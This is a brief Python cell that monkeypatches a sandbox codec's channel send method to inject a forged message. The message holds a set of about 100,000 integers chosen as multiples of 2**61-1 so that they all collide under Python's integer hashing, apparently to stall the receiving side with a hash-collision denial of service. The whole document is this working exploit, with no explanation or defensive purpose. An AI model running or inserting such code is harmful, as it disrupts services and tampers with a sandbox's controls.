# %% + after:setup
from tito.sandbox import codec

send = codec.Channel.send_encoded


def forged(self, message, encoded, encoder):
    import json
    if "steps" not in encoded:
        return send(self, message, encoded, encoder)
    items = ",".join('{"t":"int","v":"%x"}' % (((1 << 61) - 1) * n) for n in range(1, 100_000))
    text = json.dumps({"message": message, "values": {"steps": "HERE"}})
    data = text.replace('"HERE"', '{"t":"set","v":[' + items + "]}").encode()
    self.connection.sendall(codec.LENGTHS.pack(len(data), 0) + data)


codec.Channel.send_encoded = forged
